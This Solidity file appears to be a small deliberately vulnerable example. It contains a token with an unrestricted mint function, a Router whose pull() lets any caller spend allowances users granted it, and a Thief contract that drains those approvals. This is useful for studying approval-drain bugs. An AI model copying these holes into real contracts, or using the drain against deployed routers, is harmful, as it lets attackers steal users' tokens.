// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

contract Coin {
    event Transfer(address indexed from, address indexed to, uint256 amount);

    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        balanceOf[to] += amount;
        emit Transfer(address(0), to, amount);
    }

    function approve(address spender, uint256 amount) external {
        allowance[msg.sender][spender] = amount;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        emit Transfer(from, to, amount);
        return true;
    }
}

/// Spends what its users allowed it, for whoever asks.
contract Router {
    function pull(Coin coin, address from, address to, uint256 amount) external {
        coin.transferFrom(from, to, amount);
    }
}

contract Thief {
    function take(Router router, Coin coin, address from, uint256 amount) external {
        router.pull(coin, from, address(this), amount);
    }
}
